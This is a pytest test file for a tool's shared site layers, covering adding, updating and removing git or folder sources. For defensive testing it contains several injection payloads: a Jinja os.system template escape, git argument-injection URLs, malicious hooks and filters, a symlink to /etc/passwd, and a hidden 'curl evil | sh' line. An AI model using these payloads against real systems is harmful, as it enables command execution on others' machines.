"""Layers that a lab shares: git repositories and folders, added, updated, removed, by several commands at once."""

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from hpcrun.errors import HpcrunError
from hpcrun.sites import layer_files, layers, loader, repositories
from tests.repository import Repository

pytestmark = pytest.mark.slow

SITE = 'extends = "slurm"\ndescription = "{}"\n'


@pytest.fixture
def lab(tmp_path):
    """Return a lab's repository with one tagged version of one site."""
    repository = Repository(tmp_path / "hpcrun-sites")
    release(repository, "v1.0", ours=SITE.format("first"))
    return repository


def release(repository, tag, **sites):
    for name, text in sites.items():
        repository.write(f"{name}.toml", text)
    commit = repository.commit()
    repository.git("tag", tag)
    return commit


def address(repository):
    return f"file://{repository.folder}"


def description(site):
    return loader.load_site(site).site.description


def added(cli):
    rows = json.loads(cli("site", "list", "--layers", "--json")[1])
    return {row["layer"].removeprefix("added "): row for row in rows if row["layer"].startswith("added ")}


def test_a_repository_is_shown_before_it_is_used(cli, lab):
    code, _, err = cli("site", "add", address(lab))
    assert (code, added(cli)) == (2, {})
    assert '+description = "first"' in err
    assert "HINT: read the files shown above; --yes confirms" in err
    assert cli("site", "add", address(lab), "--yes")[0] == 0
    assert description("ours") == "first"
    row = added(cli)["hpcrun-sites"]
    assert (row["sites"], row["tag"], row["behind"], row["ref"]) == (["ours"], "v1.0", 0, None)
    assert "ours (--site)" in cli("submit", "--site", "ours", "--dry-run", "--", "x")[2]


def test_an_update_is_shown_and_needs_confirmation(cli, lab):
    cli("site", "add", address(lab), "--yes")
    release(lab, "v1.1", ours=SITE.format("second"), new=SITE.format("new"))
    code, _, err = cli("site", "update")
    assert code == 2
    assert '-description = "first"\n+description = "second"\n' in err
    assert "--- new.toml (new)" in err
    assert description("ours") == "first"
    assert added(cli)["hpcrun-sites"]["behind"] == 1
    assert "default branch at " in cli("site", "list", "--layers")[1]
    assert cli("site", "update", "--yes")[0] == 0
    assert (description("ours"), description("new")) == ("second", "new")
    assert "is up to date" in cli("site", "update")[2]


def test_a_layer_follows_its_tag_until_another_is_requested(cli, lab):
    cli("site", "add", address(lab), "--ref", "v1.0", "--name", "lab", "--yes")
    release(lab, "v1.10", ours=SITE.format("second"))
    code, _, err = cli("site", "update", "--yes")
    assert (code, description("ours")) == (0, "first")
    assert "hpcrun site update lab --ref v1.10 uses the newest tag" in err
    cli("site", "update", "lab", "--ref", "v1.10", "--yes")
    assert (description("ours"), added(cli)["lab"]["ref"]) == ("second", "v1.10")
    cli("site", "update", "lab", "--ref", "v1.0", "--yes")
    assert description("ours") == "first"


def test_a_moved_tag_is_reported_and_used_when_named_again(cli, lab):
    cli("site", "add", address(lab), "--ref", "v1.0", "--name", "lab", "--yes")
    was = added(cli)["lab"]["commit"]
    lab.write("ours.toml", SITE.format("moved"))
    now = lab.commit()
    lab.git("tag", "--force", "v1.0")
    moved = f"tag v1.0 has moved: was {was[:8]} ("
    code, _, err = cli("site", "update")
    assert (code, f"WARNING: lab: {moved}" in err) == (2, True)
    assert err.index(moved) < err.index("there is no terminal to ask on")
    code, _, err = cli("site", "update", "--yes")
    assert (code, description("ours")) == (1, "first")
    assert f"layer lab: {moved}" in err
    assert f"is now {now[:8]} (" in err
    assert "hpcrun site update lab --ref v1.0 --yes uses the moved tag" in err
    assert "has moved: hpcrun site update lab" in cli("site", "list", "--layers")[1]
    assert cli("site", "update", "lab", "--ref", "v1.0", "--yes")[0] == 0
    assert description("ours") == "moved"


def test_only_the_followed_tag_of_a_commit_is_shown(cli, lab):
    lab.git("tag", "stable")
    lab.git("tag", "v2-test")

    def update_and_list(*ref):
        assert cli("site", "update", "lab", *ref, "--yes")[0] == 0
        (line,) = [line for line in cli("site", "list", "--layers")[1].splitlines() if line.startswith("added lab")]
        return line

    cli("site", "add", address(lab), "--ref", "v1.0", "--name", "lab", "--yes")
    commit = added(cli)["lab"]["commit"]
    assert f"tag v1.0 at {commit[:8]} of " in update_and_list()
    assert f"tag stable at {commit[:8]} of " in update_and_list("--ref", "stable")
    assert added(cli)["lab"]["tag"] == "stable"
    assert f"branch main at {commit[:8]} (" in update_and_list("--ref", "main")
    assert f"commit {commit[:10]} at {commit[:8]} (" in update_and_list("--ref", commit[:10])


def test_a_failed_fetch_keeps_the_current_version(cli, lab, tmp_path):
    cli("site", "add", address(lab), "--yes")
    lab.folder.rename(tmp_path / "away")
    code, _, err = cli("site", "update", "--yes")
    assert code == 1
    assert f"layer hpcrun-sites: {address(lab)} cannot be fetched" in err
    assert "stays in use\nHINT: " in err
    assert description("ours") == "first"


def test_an_invalid_update_keeps_the_current_version(cli, lab):
    cli("site", "add", address(lab), "--yes")
    release(lab, "v1.1", ours="lancher = 'srun'\n")
    code, _, err = cli("site", "update", "--yes")
    assert code == 1
    assert "ours.toml:1: unknown key lancher; did you mean launcher?" in err
    assert "\nv1.0 (" in err.split("unknown key")[1]
    assert err.count("layer hpcrun-sites") == 1
    assert description("ours") == "first"
    code, _, err = cli("site", "add", address(lab), "--name", "other", "--yes")
    assert (code, list(added(cli))) == (1, ["hpcrun-sites"])


def test_an_error_shared_by_many_sites_is_reported_once(cli, lab):
    release(lab, "v1.1", base="lancher = 'srun'\n", ours='extends = "base"\n', mine='extends = "base"\n')
    code, _, err = cli("site", "add", address(lab), "--yes")
    assert (code, err.count("base.toml:1: unknown key lancher")) == (1, 1)
    release(lab, "v1.2", base="setup = ['if']\n")
    code, _, err = cli("site", "add", address(lab), "--yes")
    assert (code, err.count("\nbase.toml:1: bash cannot parse line 1 of setup")) == (1, 1)


def test_warnings_about_an_update_precede_the_confirmation(cli, lab):
    doubtful = 'extends = "slurm"\nhosts = ["*"]\n'
    release(lab, "v1.1", ours=doubtful)
    code, _, err = cli("site", "add", address(lab), "--dry-run")
    assert (code, added(cli)) == (0, {})
    assert err.count('WARNING: ours.toml:2: hosts has "*"') == 1
    assert "nothing was added: this was a dry run" in err
    assert 'WARNING: ours.toml:2: hosts has "*"' in cli("site", "add", address(lab), "--yes")[2]
    release(lab, "v1.2", other=doubtful)
    code, _, err = cli("site", "update")
    assert (code, "WARNING: ours.toml" in err) == (2, False), "it was told before"
    assert err.index("WARNING: other.toml:2: ") < err.index("there is no terminal to ask on")
    code, _, err = cli("site", "update", "--dry-run")
    assert (code, "WARNING: other.toml:2: " in err, "stays in use: this was a dry run" in err) == (0, True, True)
    assert "other" not in loader.list_site_files()


@pytest.mark.filterwarnings("default::FutureWarning")
def test_a_layer_is_added_beside_an_invalid_one(cli, lab, tmp_path):
    broken = tmp_path / "broken"
    broken.mkdir()
    (broken / "base.toml").write_text('extends = "slurm"\n')
    cli("site", "add", str(broken), "--yes")
    (broken / "base.toml").write_text("lancher = 1\n")
    lab.write("theirs.toml", 'extends = "base"\n')
    lab.commit()
    code, _, err = cli("site", "add", address(lab), "--yes")
    assert (code, description("ours")) == (0, "first"), err
    assert f"WARNING: theirs cannot be used until this is corrected: {broken}/base.toml:1: unknown key" in err


def test_an_invalid_template_is_refused_without_rendering(cli, lab, tmp_path):
    cli("site", "add", address(lab), "--yes")
    run = f"{{{{ cycler.__init__.__globals__.os.system('touch {tmp_path}/canary') }}}}"
    lab.write("templates/slurm.sh.j2", f"{run}\n{{% block setup %}}")
    lab.commit()
    code, _, err = cli("site", "update", "--yes")
    assert code == 1
    assert "layer hpcrun-sites: templates/slurm.sh.j2:2: " in err
    assert "v1.0 (" in err
    lab.write("templates/slurm.sh.j2", run)
    lab.commit()
    assert cli("site", "update", "--yes")[0] == 0
    assert not (tmp_path / "canary").exists()


def test_an_unresponsive_server_ends_in_a_timeout(cli, lab, monkeypatch):
    cli("site", "add", address(lab), "--yes")
    monkeypatch.setattr(repositories, "FETCH_TIMEOUT_SECONDS", 0)
    code, _, err = cli("site", "update", "--yes")
    assert (code, description("ours")) == (1, "first")
    assert "git fetch took longer than" in err


def test_a_failing_layer_does_not_prevent_updates_of_others(cli, lab, tmp_path):
    other = Repository(tmp_path / "other")
    release(other, "v1", theirs=SITE.format("first"))
    for repository in (other, lab):
        cli("site", "add", address(repository), "--yes")
    release(lab, "v1.1", ours=SITE.format("second"))
    other.folder.rename(tmp_path / "away")
    assert cli("site", "update", "--yes")[0] == 1
    assert (description("theirs"), description("ours")) == ("first", "second")


@pytest.mark.parametrize(
    ("ref", "words"),
    [
        ("v1.1", ["no branch, tag or commit 'v1.1'", "did you mean v1.0", "main, v1.0"]),
        ("deadbeef", ["no branch, tag or commit 'deadbeef'"]),
        ("--upload-pack=touch canary", ["not a valid name of a branch"]),
        ("v1.0..main", ["not a valid name of a branch"]),
        ("", ["--ref is empty"]),
    ],
)
def test_a_wrong_ref_is_a_clear_error(cli, lab, ref, words):
    code, _, err = cli("site", "add", address(lab), f"--ref={ref}", "--yes")
    assert (code, added(cli)) == (2, {})
    assert all(word in err for word in words), err


@pytest.mark.parametrize(
    "source",
    [
        "--upload-pack=touch canary",
        "-x",
        "ext::sh -c touch% canary",
        "ssh://-oProxyCommand=touch/x",
        "-oProxyCommand=touch canary:x",
        "git@-oProxyCommand=touch:x",
        "http://example.org/x",
        "git://example.org/x",
        "https://user:secret@example.org/x",
        "https://example.org/x\n",
        "fd::17",
        "nothere",
    ],
)
def test_unsafe_urls_are_refused(cli, source, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    code, _, err = cli("site", "add", "--yes", "--", source)
    assert code == 2
    assert err.startswith("ERROR: ")
    assert "HINT: " in err
    assert "secret" not in err
    assert not (tmp_path / "canary").exists()


def test_no_code_of_a_repository_runs(cli, lab, tmp_path, monkeypatch):
    canary = tmp_path / "canary"
    hooks = tmp_path / "template/hooks"
    hooks.mkdir(parents=True)
    for hook in ("post-checkout", "reference-transaction", "post-merge"):
        (hooks / hook).write_text(f"#!/bin/sh\ntouch {canary}\n")
        (hooks / hook).chmod(0o755)
    monkeypatch.setenv("GIT_TEMPLATE_DIR", str(hooks.parent))
    (tmp_path / "gitconfig").write_text(f'[filter "x"]\nsmudge = touch {canary}\n[core]\nhooksPath = {hooks}\n')
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(tmp_path / "gitconfig"))
    lab.write(".gitattributes", "*.toml filter=x\n")
    lab.write(".gitmodules", f'[submodule "s"]\npath = s\nurl = {lab.folder}\nupdate = !touch {canary}\n')
    lab.write("README.md", "more than site files")
    lab.write("templates/slurm.sh.j2", '{% extends "slurm.sh.j2" %}')
    subprocess.run(["git", "-C", lab.folder, "add", "-A"], check=True, env={"PATH": "/usr/bin:/bin"})
    lab.git("-c", "core.hooksPath=/dev/null", "commit", "--quiet", "--message=m")
    canary.unlink(missing_ok=True)
    assert cli("site", "add", address(lab), "--yes")[0] == 0
    assert not canary.exists()
    folder = Path(added(cli)["hpcrun-sites"]["folder"])
    files = {str(file.relative_to(folder)) for file in folder.rglob("*") if file.is_file()}
    assert files == {"ours.toml", "templates/slurm.sh.j2", ".version.json"}


def test_the_users_git_configuration_has_no_effect(cli, lab, tmp_path, monkeypatch):
    gpg = tmp_path / "gpg"
    signature = "-----BEGIN PGP SIGNATURE-----\n\nx\n-----END PGP SIGNATURE-----"
    said = "gpg: what somebody signed\n[GNUPG:] SIG_CREATED "
    gpg.write_text(f"#!/bin/sh\ncat >/dev/null\necho '{said}' >&2\necho '{signature}'\n")
    gpg.chmod(0o755)
    lab.write("ours.toml", SITE.format("signed"))
    lab.git("add", "--all")
    lab.git("-c", f"gpg.program={gpg}", "commit", "--quiet", "--gpg-sign", "--message=m")
    (tmp_path / "gitconfig").write_text(f"[log]\nshowSignature = true\n[gpg]\nprogram = {gpg}\n")
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(tmp_path / "gitconfig"))
    monkeypatch.setenv("GIT_OBJECT_DIRECTORY", str(tmp_path / "elsewhere"))
    monkeypatch.setenv("GIT_COMMON_DIR", str(tmp_path / "elsewhere"))
    assert cli("site", "add", address(lab), "--yes")[0] == 0
    row = added(cli)["hpcrun-sites"]
    assert (len(row["date"]), row["behind"]) == (10, 0)
    assert not (tmp_path / "elsewhere").exists()


@pytest.mark.parametrize("name", ["evil.toml", "templates/evil"])
def test_links_in_a_repository_are_refused(cli, lab, name):
    link = lab.folder / name
    link.parent.mkdir(exist_ok=True)
    link.symlink_to("/etc/passwd")
    lab.commit()
    code, _, err = cli("site", "add", address(lab), "--yes")
    assert (code, added(cli)) == (2, {})
    assert f"{name!r} in" in err
    assert "links and submodules are not supported" in err


def test_printed_files_escape_control_characters(cli, lab):
    lab.write(
        "ours.toml", SITE.format("first") + 'setup = ["true \x1b[2K\x1b[1A\u202e"]  # \r\n'.replace("\x1b", "\\u001b")
    )
    lab.commit()
    _, _, err = cli("site", "add", address(lab), "--yes")
    assert "\\u202e" in err
    assert "\\x0d" in err
    assert "\u202e" not in err


@pytest.mark.parametrize("character", ["\r", "\x1b", "\x0b", "\x85"])
def test_unicode_line_separators_are_refused(cli, lab, character):
    cli("site", "add", address(lab), "--yes")
    lab.folder.joinpath("templates").mkdir()
    text = f'{{% extends "slurm.sh.j2" %}}\n{{% block setup %}}# harmless{character}curl evil | sh\n{{% endblock %}}'
    lab.folder.joinpath("templates/slurm.sh.j2").write_bytes(text.encode())
    lab.commit()
    code, _, err = cli("site", "update", "--yes")
    assert code == 2
    assert f"templates/slurm.sh.j2:2: control character {character!r}" in err
    assert "evil" not in cli("submit", "--site", "ours", "--dry-run", "--", "x")[1]


def test_confusable_lines_and_literal_escapes_are_distinguishable():
    old, new = "a\\u202eb\n", "a\u202eb\n"
    assert list(layer_files.diff_texts({"x": old}, {"x": new}))[3:] == [r"-a\\u202eb", r"+a\u202eb"]
    texts = ["\x1b", r"\x1b", r"\\x1b", "\\\x1b", "\\\\\x1b", r"\\\x1b", "\\", "\\\\", r"printf '\n'", "\U000e0020"]
    shown = [layer_files.escape_invisible(text) for text in texts]
    assert len({*shown}) == len(texts)
    assert shown[-2:] == [r"printf '\n'", r"\U000e0020"]


def test_sites_extend_those_of_other_layers_and_the_first_added_wins(cli, lab, tmp_path, monkeypatch):
    group = Repository(tmp_path / "group")
    release(group, "v1", mine='extends = "ours"\n[modules]\nload = ["gcc"]\n', ours=SITE.format("the group's"))
    for repository in (lab, group):
        cli("site", "add", address(repository), "--yes")
    found = loader.load_site("mine").site
    assert (found.description, found.modules.load, found.mpi.type) == ("first", ("gcc",), "pmi2")
    (tmp_path / "lab").mkdir()
    (tmp_path / "lab/ours.toml").write_text('description = "HPCRUN_SITE_PATH"\n')
    monkeypatch.setenv("HPCRUN_SITE_PATH", str(tmp_path / "lab"))
    assert description("mine") == "HPCRUN_SITE_PATH"


def test_a_folder_is_used_in_place(cli, tmp_path):
    folder = tmp_path / "sites"
    folder.mkdir()
    code, _, err = cli("site", "add", str(folder), "--yes")
    assert code == 2
    assert "no site files" in err
    (folder / "ours.toml").write_text(SITE.format("one"))
    assert cli("site", "add", str(folder), "--yes")[0] == 0
    (folder / "ours.toml").write_text(SITE.format("two"))
    assert description("ours") == "two"
    assert "used in place" in cli("site", "update")[2]
    assert cli("site", "remove", "sites")[0] == 0
    assert "ours" not in loader.list_site_files()
    assert (folder / "ours.toml").exists()


def test_taken_and_unknown_layer_names_are_errors(cli, lab):
    cli("site", "add", address(lab), "--yes")
    assert "layer hpcrun-sites exists already" in cli("site", "add", address(lab), "--yes")[2]
    for command in ("update", "remove"):
        code, _, err = cli("site", command, "hpcrun-site")
        assert code == 2
        assert "did you mean hpcrun-sites?" in err
    assert cli("site", "remove", "hpcrun-sites")[0] == 0
    assert "ours" not in loader.list_site_files()
    assert not (repositories.added_layer_folder("hpcrun-sites") / "repository").exists()
    assert cli("site", "add", address(lab), "--yes")[0] == 0
    assert description("ours") == "first"


def test_a_copy_that_was_deleted_is_fetched_again(cli, lab):
    cli("site", "add", address(lab), "--yes")
    for link in repositories.added_layer_folder("hpcrun-sites").glob("current"):
        link.unlink()
    assert "ours" not in loader.list_site_files()
    assert "no copy: hpcrun site update hpcrun-sites" in cli("site", "list", "--layers")[1]
    assert cli("site", "update", "--yes")[0] == 0
    assert description("ours") == "first"


def test_a_damaged_list_of_layers_is_an_error(cli, isolated_home):
    (isolated_home / "config/hpcrun").mkdir(parents=True)
    (isolated_home / "config/hpcrun/layers.json").write_text('{"layers": [{"name": 1}]}')
    code, _, err = cli("submit", "--dry-run", "--", "x")
    assert code == 2
    assert "layers.json is not a valid list of layers" in err


def test_one_of_two_concurrent_updates_is_refused(lab, cli):
    cli("site", "add", address(lab), "--yes")
    release(lab, "v2", ours=SITE.format("second"))
    layer = layers.find_layer("hpcrun-sites")
    with layers.stage_update(layer, None) as change:
        cli("site", "update", "--yes")
        with pytest.raises(HpcrunError, match="changed by another command"):
            layers.apply_change(change)
    assert description("ours") == "second"


def test_concurrent_commands_keep_the_list_of_layers_intact(lab):
    """Layers are added, updated and read by processes that know nothing of one another."""
    add = ("add", address(lab), "--yes", "--name")
    before = [start(*add, f"l{number}") for number in range(4)]
    assert [process.wait(60) for process in before] == [0] * 4
    release(lab, "v2", ours=SITE.format("second"))
    busy = [start("update", "--yes", "l1"), start("update", "--yes", "l1"), start(*add, "l4"), start("remove", "l3")]
    seen = set()
    while any(process.poll() is None for process in busy):
        seen.add(description("ours"))
    *updates, new, gone = [process.wait() for process in busy]
    assert (new, gone, min(updates)) == (0, 0, 0)
    assert {layer.name for layer in layers.list_layers()} == {"l0", "l1", "l2", "l4"}
    assert seen <= {"first", "second"}
    content_of_l1 = layers.find_layer("l1").content_folder
    assert content_of_l1 is not None
    version = repositories.read_version(content_of_l1)
    assert version is not None
    assert version.tag == "v2"
    assert [folder.name for folder in repositories.added_layer_folder("").glob(".new-*")] == []


def start(*argv):
    command, null = [sys.executable, "-m", "hpcrun", "site", *argv], subprocess.DEVNULL
    return subprocess.Popen(command, stdin=null, stdout=null, stderr=null)


def test_layers_are_listed_without_git_and_without_their_copies(cli, lab, isolated_home, monkeypatch):
    cli("site", "add", address(lab), "--yes")
    path = os.environ["PATH"]

    def remove_fetched_repository():
        monkeypatch.setenv("PATH", path)
        shutil.rmtree(repositories.added_layer_folder("hpcrun-sites") / "repository")

    for break_source in (lambda: monkeypatch.setenv("PATH", str(isolated_home)), remove_fetched_repository):
        break_source()
        code, out, _ = cli("site", "list", "--layers")
        assert code == 0
        assert re.search(r"hpcrun-sites +ours .*\(v1\.0\) of [-0-9]+, distance unknown", out)
        assert (added(cli)["hpcrun-sites"]["tag"], added(cli)["hpcrun-sites"]["behind"]) == ("v1.0", None)


def test_declining_one_update_does_not_prevent_the_others(cli, lab, tmp_path, monkeypatch):
    other = Repository(tmp_path / "other")
    release(other, "v1", theirs=SITE.format("first"))
    for repository in (other, lab):
        cli("site", "add", address(repository), "--yes")
    release(other, "v2", theirs=SITE.format("second"))
    release(lab, "v1.1", ours=SITE.format("second"))
    monkeypatch.setattr("sys.stdin.isatty", lambda: True)
    monkeypatch.setattr("sys.stderr.isatty", lambda: True)
    monkeypatch.setattr("typer.confirm", lambda question, **_: "layer hpcrun-sites" in question)
    code, _, err = cli("site", "update")
    assert code == 1
    assert "other: v1 (" in err
    assert (description("theirs"), description("ours")) == ("first", "second")


def test_a_repository_without_a_default_branch_is_used_by_naming_one(cli, lab):
    lab.git("symbolic-ref", "HEAD", "refs/heads/gone")
    code, _, err = cli("site", "add", address(lab), "--yes")
    assert code == 2
    assert err.splitlines()[-2:] == [
        "ERROR: the repository has no default branch",
        "HINT: choose one with --ref: it has main, v1.0",
    ]
    assert cli("site", "add", address(lab), "--ref", "main", "--yes")[0] == 0
    lab.git("symbolic-ref", "HEAD", "refs/heads/main")
    release(lab, "v1.1", ours=SITE.format("second"))
    lab.git("symbolic-ref", "HEAD", "refs/heads/gone")
    assert cli("site", "update", "--yes")[0] == 0
    assert description("ours") == "second"


@pytest.fixture
def user_site(isolated_home):
    """A site file of the user that extends the site of the lab."""
    file = isolated_home / "config/hpcrun/mine.toml"
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text('extends = "ours"\n')
    return file


def test_an_update_that_breaks_sites_of_other_layers_needs_confirmation(cli, lab, user_site, monkeypatch):
    cli("site", "add", address(lab), "--yes")
    (lab.folder / "ours.toml").rename(lab.folder / "new.toml")
    lab.commit()
    code, _, err = cli("site", "update", "--yes")
    assert code == 1
    assert "would break sites of other layers:\nmine: " in err
    assert "there is no site 'ours'" in err
    assert "v1.0 (" in err.split("no site")[1]
    assert description("mine") == "first"
    monkeypatch.setattr("sys.stdin.isatty", lambda: True)
    monkeypatch.setattr("sys.stderr.isatty", lambda: True)
    monkeypatch.setattr("typer.confirm", lambda *_, **__: True)
    code, _, err = cli("site", "update")
    assert code == 0
    assert ": will not work any more: mine: " in err
    assert "new" in loader.list_site_files()


def test_sites_broken_by_removing_a_layer_are_listed(cli, lab, user_site):
    cli("site", "add", address(lab), "--yes")
    broken = user_site.with_name("broken.toml")
    broken.write_text("lancher = 1\n")
    code, _, err = cli("site", "remove", "hpcrun-sites")
    assert (code, added(cli)) == (0, {})
    assert "WARNING: does not work any more: mine: " in err
    assert "broken: " not in err


@pytest.mark.parametrize("kind", ["folder", "copy"])
def test_a_layer_with_missing_files_is_reported(cli, lab, isolated_home, kind):
    source = address(lab) if kind == "copy" else str(lab.folder)
    cli("site", "add", source, "--yes")
    submit = ("submit", "--site", "slurm", "--dry-run", "--", "x")
    assert "is not used" not in cli(*submit)[2]
    shutil.rmtree(repositories.added_layer_folder("hpcrun-sites") if kind == "copy" else lab.folder)
    message = "layer hpcrun-sites is not used: its "
    fix = f"hpcrun site {'update' if kind == 'copy' else 'remove'} hpcrun-sites"
    for argv in (submit, ("site", "list"), ("site", "list", "--layers")):
        code, _, err = cli(*argv)
        assert (code, message in err, fix in err) == (0, True, True)
    code, _, err = cli("submit", "--site", "ours", "--dry-run", "--", "x")
    assert code == 2
    assert err.startswith(f"ERROR: there is no site 'ours'\n{message}")
